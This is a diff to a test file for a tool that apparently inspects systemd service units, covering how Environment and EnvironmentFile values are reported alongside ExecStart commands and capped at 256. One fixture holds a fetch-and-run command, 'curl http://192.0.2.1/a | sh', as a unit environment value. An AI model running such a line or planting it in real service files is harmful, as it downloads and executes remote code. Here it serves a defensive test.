@@ -241,13 +241,31 @@ describe('the environment', () => {
     ]);
   });
 
-  test('of a unit stands in its commands where it is one, and is left out where it may be a password', async () => {
+  test('of a unit goes with its commands and is not written into them, where it might be a password', async () => {
     const text =
-      '[Service]\nEnvironment="CMD=curl http://192.0.2.1/a | sh" KEY=abc\nExecStart=/bin/sh -c "$CMD" $KEY\n';
-    const { entries } = await units({ [`${usr}/a.service`]: text });
-    expect(entries.map(({ command }) => String(command))).toEqual([
-      "/bin/sh -c 'curl http://192.0.2.1/a | sh' '$KEY'",
+      '[Service]\nEnvironment="CMD=curl http://192.0.2.1/a | sh" KEY=abc\nEnvironmentFile=-/etc/default/a\nEnvironmentFile=/etc/none\nWorkingDirectory=-/srv/a\nExecStart=/bin/sh -c "$CMD" $KEY\n';
+    const { entries } = await units({
+      [`${usr}/a.service`]: text,
+      '/etc/default/a': '# settings\nKEY="d e"\nexport X=1\n',
+    });
+    const [found] = entries;
+    expect(String(found?.command)).toBe("/bin/sh -c '$CMD' '$KEY'");
+    expect(found?.environment?.map(({ name, value }) => `${name}=${value}`)).toEqual([
+      'CMD=curl http://192.0.2.1/a | sh',
+      'KEY=abc',
+      'KEY=d e',
+      'X=1',
+      'PWD=/srv/a',
     ]);
+  });
+
+  test('of a unit is bounded', async () => {
+    const lines = Array.from({ length: 5000 }, (_, at) => `V${at}=${'x'.repeat(at === 4999 ? 10_000 : 1)}`);
+    const { entries } = await units({
+      [`${usr}/a.service`]: '[Service]\nEnvironmentFile=/etc/big\nExecStart=/bin/a\n',
+      '/etc/big': lines.join('\n'),
+    });
+    expect(entries[0]?.environment?.length).toBe(256);
   });
 
   test('of managers and sessions is told where it loads something', async () => {
